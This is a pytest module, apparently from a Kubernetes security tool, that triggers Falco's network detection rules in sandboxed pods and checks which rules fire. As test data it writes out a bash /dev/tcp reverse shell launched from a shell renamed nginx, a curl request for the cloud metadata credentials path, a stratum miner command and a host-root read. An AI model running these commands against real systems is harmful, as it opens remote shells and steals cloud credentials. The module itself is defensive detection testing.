"""Falco's network rules (stable, incubating, sandbox) fire live through the agent running Falco's own files.

Each case performs the behaviour for real in a fresh pod and asserts that exactly its rule of GROUP fires (plus
the rules Falco too fires on the same behaviour, `also`), with the pod's identity. The far end of each
connection is a peer (netpeers.py): a process in the pod's network namespace but outside its cgroup, at an
address that exists only there (TEST-NET 198.51.100.7, 169.254.169.254 on the pod's loopback), standing for a
host elsewhere; nothing leaves the namespaces the test made.

Tuning, as a Falco user does it (one agent for the module):
- rules Falco ships disabled are enabled by a later rules file (`- rule: NAME` / `enabled: true`) for the
  interpreted-procs and inbound-source rules, and by Falco's `-o rules[].enable.rule=NAME` selection for the
  NodePort and miner-pool-ports rules;
- "Network Connection outside Local Subnet" watches only the namespaces listed in
  namespace_scope_network_only_subnet (empty as shipped): the later rules file appends the test's namespace;
- Falco's outbound macro names sendto and sendmsg only, so with the shipped files a datagram sent by sendmmsg
  (its own event type, in Falco as here) fires none of its rules: the later rules file replaces the macro with
  one that also names sendmmsg (the rest unchanged), as a user who wants those covered would.

Names: the agent maps Falco's k8s_api_server name (kubernetes.default.svc.cluster.local) to
KUBERNETES_SERVICE_HOST of its own environment, as kubelet sets it in the agent's pod (the test sets it), and
resolves the miner pool names of "Detect outbound connections to common miner pool ports" with the node's
resolver: the agent runs in a private mount namespace whose /etc/hosts names the test's pool address.

Stand-ins: one, where the rule keys on a process name the machine lacks: "Reverse Shell from Web Server" needs a
web server as the shell's parent (proc.pname in web_server_binaries), so a copy of /bin/sh named nginx runs a
real bash reverse shell to a peer. The interpreted-procs cases run the machine's own /usr/bin/python3
(proc.name "python3"); the other Python clients and servers run as the real interpreter's file name
(python3.11), which is in no list.

Each case names its rule: scripts/falco_rules_table.py reads CASES to mark those rules live in docs/rules.md.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from fslab import PYTHON, FalcoLab
from netpeers import peer

import kubeguard

pytestmark = pytest.mark.root

PEER = "198.51.100.7"  # TEST-NET-2 on the pod's loopback: not RFC 1918, so "outbound" to Falco
METADATA_IP = "169.254.169.254"
SUBNET_ONLY_NS = "kg-subnet-only"  # the namespace appended to namespace_scope_network_only_subnet
INTERPRETER = "/usr/bin/python3"
API_SERVER_IP = "10.96.0.1"  # the `kubernetes` service's cluster IP: KUBERNETES_SERVICE_HOST in the agent's pod
POOL_IP = "203.0.113.9"  # TEST-NET-3: what the node's resolver gives for a miner pool's name (MINER_DOMAIN)
MINER_DOMAIN = "de.minexmr.com"  # in Falco's miner_domains  # proc.name "python3": in Falco's interpreted_binaries

GROUP = ("Contact K8S API Server From Container", "System procs network activity", "Unexpected UDP Traffic",
         "Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container",
         "Network Connection outside Local Subnet", "Unexpected inbound connection source",
         "Interpreted procs inbound network activity", "Interpreted procs outbound network activity",
         "Unexpected K8s NodePort Connection", "Detect outbound connections to common miner pool ports",
         "Detect crypto miners using the Stratum protocol", "Reverse Shell from Web Server",
         "Container Access to Host Sensitive Paths")
ENABLE = ("Interpreted procs inbound network activity", "Interpreted procs outbound network activity",
          "Unexpected inbound connection source")
OPTIONS = ("rules[].enable.rule=Unexpected K8s NodePort Connection",
           "rules[].enable.rule=Detect outbound connections to common miner pool ports")
OVERRIDES = (f"- list: namespace_scope_network_only_subnet\n  items: [{SUBNET_ONLY_NS}]\n"
             "  override:\n    items: append\n"
             "- macro: outbound\n  condition: >\n    ((evt.type = connect or "
             "(evt.type in (sendto,sendmsg,sendmmsg) and fd.l4proto != tcp and fd.connected=false and "
             "fd.name_changed=true)) and (fd.typechar = 4 or fd.typechar = 6) and (fd.ip != \"0.0.0.0\" and "
             "fd.net != \"127.0.0.0/8\" and not fd.snet in (rfc_1918_addresses)) and "
             "(evt.rawres >= 0 or evt.res = EINPROGRESS))\n"
             "  override:\n    condition: replace\n")


def dial(address: str, port: int, python: str = PYTHON) -> str:
    return f"{python} -c \"import socket; socket.create_connection(('{address}', {port}), timeout=10).close()\""


def serve_once(address: str, port: int, python: str = PYTHON) -> str:
    return (f"{python} -c \"import socket; s = socket.socket(); s.bind(('{address}', {port})); s.listen(); "
            "s.settimeout(60); s.accept()[0].close()\"")


def receive_once(address: str, port: int, python: str = PYTHON) -> str:
    """One datagram received on an unconnected UDP socket, asking for the sender's address (recvfrom)."""
    return (f"{python} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.bind(('{address}', {port})); s.settimeout(60); s.recvfrom(64)\"")


UDP_SEND = (f"{PYTHON} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"s.connect(('{PEER}', 5151)); s.send(b'kg')\"")


def send_datagrams(address: str, port: int, python: str = PYTHON) -> str:
    """Datagrams sent without connect(): sendto twice to one destination (the kernel side reports the first:
    fd.name_changed), then sendmsg to the same one (not reported again)."""
    return (f"{python} -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"[s.sendto(b'kg', ('{address}', {port})) for _ in range(2)]; s.sendmsg([b'kg'], [], 0, "
            f"('{address}', {port}))\"")


def sendmmsg_datagrams(address: str, port: int, python: str = PYTHON) -> str:
    """Two datagrams to one destination in one sendmmsg() call (through libc: Python's socket has no sendmmsg),
    on an unconnected UDP socket."""
    return (f"{python} -c \"import ctypes, socket, struct; C = ctypes; libc = C.CDLL(None, use_errno=True); "
            "IOV = type('IOV', (C.Structure,), {'_fields_': [('base', C.c_char_p), ('len', C.c_size_t)]}); "
            "MSG = type('MSG', (C.Structure,), {'_fields_': [('name', C.c_char_p), ('namelen', C.c_uint32), "
            "('iov', C.POINTER(IOV)), ('iovlen', C.c_size_t), ('control', C.c_void_p), ('controllen', C.c_size_t), "
            "('flags', C.c_int), ('pad', C.c_int), ('len', C.c_uint)]}); "
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
            f"name = struct.pack('=H', socket.AF_INET) + struct.pack('!H4s8x', {port}, socket.inet_aton('{address}')); "
            "iov = IOV(b'kg', 2); vec = (MSG * 2)(*[MSG(name, 16, C.pointer(iov), 1, None, 0, 0, 0, 0)] * 2); "
            "sent = libc.sendmmsg(s.fileno(), vec, 2, 0); assert sent == 2, (sent, C.get_errno())\"")


REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
                 f"'bash -c \"bash -i >& /dev/tcp/{PEER}/4444 0>&1\"; true'")
METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
# The base interpreter (its name is not one of Falco's interpreted_binaries, unlike a virtualenv's `python`), with
# the folder kubeguard is imported from on its path (lab pods bind it back).
KUBEGUARD_PATH = Path(kubeguard.__file__).resolve().parents[1]
MINER = (f"PYTHONPATH={KUBEGUARD_PATH} {PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet "
         "--max-cpu 100 --shares 1")

# The host's / bind-mounted at /host of a container whose own root is a chroot of the machine's /usr (what a
# hostPath volume of / looks like from inside): a read below /host/.
HOST_MOUNT = ("mkdir -p /tmp/kg-root/usr /tmp/kg-root/host && mount --rbind /usr /tmp/kg-root/usr && "
              "ln -s usr/bin /tmp/kg-root/bin && ln -s usr/lib /tmp/kg-root/lib && "
              "ln -s usr/lib64 /tmp/kg-root/lib64 && "
              "mount --bind / /tmp/kg-root/host && chroot /tmp/kg-root cat /host/etc/hostname > /dev/null")

# (case id, rule, rules Falco also fires on it, peer (kind, address, port) or None, behaviour, pod namespace)
# "{pod}" in a peer address or behaviour is the pod's own address (eth0, 10.200.0.0/13).
CASES = [
    ("udp-connect", "Unexpected UDP Traffic", (), None, UDP_SEND, "default"),
    ("shell-dev-tcp", "System procs network activity", (), ("listen", PEER, 8081),
     f"bash -c 'exec 3<>/dev/tcp/{PEER}/8081'", "default"),
    ("metadata", "Contact cloud metadata service from container",
     ("Contact EC2 Instance Metadata Service From Container",), ("metadata", METADATA_IP, 80), METADATA_GET,
     "default"),
    ("metadata-ec2", "Contact EC2 Instance Metadata Service From Container",
     ("Contact cloud metadata service from container",), ("metadata", METADATA_IP, 80), METADATA_GET, "default"),
    ("metadata-udp-sendto", "Contact cloud metadata service from container",
     ("Contact EC2 Instance Metadata Service From Container",), None, send_datagrams(METADATA_IP, 8053), "default"),
    ("outside-subnet", "Network Connection outside Local Subnet", (), ("listen", PEER, 8085), dial(PEER, 8085),
     SUBNET_ONLY_NS),
    ("nodeport", "Unexpected K8s NodePort Connection", (), ("listen", PEER, 30080), dial(PEER, 30080), "default"),
    ("interpreted-outbound", "Interpreted procs outbound network activity", (), ("listen", PEER, 8082),
     dial(PEER, 8082, INTERPRETER), "default"),
    ("interpreted-udp-sendto", "Interpreted procs outbound network activity", (), None,
     send_datagrams(PEER, 5353, INTERPRETER), "default"),
    ("interpreted-udp-sendmmsg", "Interpreted procs outbound network activity", (), None,
     sendmmsg_datagrams(PEER, 5355, INTERPRETER), "default"),
    ("interpreted-inbound", "Interpreted procs inbound network activity", (), ("dial", "{pod}", 8083),
     serve_once("{pod}", 8083, INTERPRETER), "default"),
    ("inbound-source", "Unexpected inbound connection source", (), ("dial", PEER, 8084), serve_once(PEER, 8084),
     "default"),
    ("interpreted-udp-inbound", "Interpreted procs inbound network activity", (), ("datagrams", "{pod}", 5400),
     receive_once("{pod}", 5400, INTERPRETER), "default"),
    ("inbound-source-udp", "Unexpected inbound connection source", (), ("datagrams", PEER, 5401),
     receive_once(PEER, 5401), "default"),
    ("stratum-miner", "Detect crypto miners using the Stratum protocol", (), ("pool", PEER, 3333), MINER,
     "default"),
    # bash's /dev/tcp connect is a shell's network activity too
    ("reverse-shell-web", "Reverse Shell from Web Server", ("System procs network activity",),
     ("listen", PEER, 4444), REVERSE_SHELL, "default"),
    # Falco's macro k8s_api_server as shipped: fd.sip.name = kubernetes.default.svc.cluster.local
    ("k8s-api-server", "Contact K8S API Server From Container", (), ("listen", API_SERVER_IP, 443),
     dial(API_SERVER_IP, 443), "default"),
    ("miner-pool-port", "Detect outbound connections to common miner pool ports", (), ("listen", POOL_IP, 3333),
     dial(POOL_IP, 3333), "default"),
    ("host-path-read", "Container Access to Host Sensitive Paths", (), None, HOST_MOUNT, "default"),
]


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FalcoLab]:
    falco = FalcoLab.start(tmp_path_factory.mktemp("falco-network"), enable=ENABLE, options=OPTIONS,
                           overrides=OVERRIDES, env={"KUBERNETES_SERVICE_HOST": API_SERVER_IP},
                           hosts=f"{POOL_IP} {MINER_DOMAIN}\n")
    try:
        yield falco
    finally:
        falco.close()


@pytest.mark.parametrize(("rule", "also", "far_end", "behaviour", "namespace"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_network_rule_fires(lab: FalcoLab, tmp_path: Path, rule: str, also: tuple[str, ...],
                            far_end: tuple[str, str, int] | None, behaviour: str, namespace: str) -> None:
    pod = lab.pod("net", namespace=namespace)
    pod.add_address(PEER)
    for address in (METADATA_IP, API_SERVER_IP, POOL_IP):
        pod.add_address(address)
    behaviour = behaviour.replace("{pod}", pod.ip)
    if far_end is None:
        lab.behave(pod, behaviour)
    else:
        kind, address, port = far_end
        with peer(pod, kind, address.replace("{pod}", pod.ip), port, tmp_path / "peer"):
            lab.behave(pod, behaviour)
    lab.expect_only(pod, rule, tuple(r for r in GROUP if r not in also))
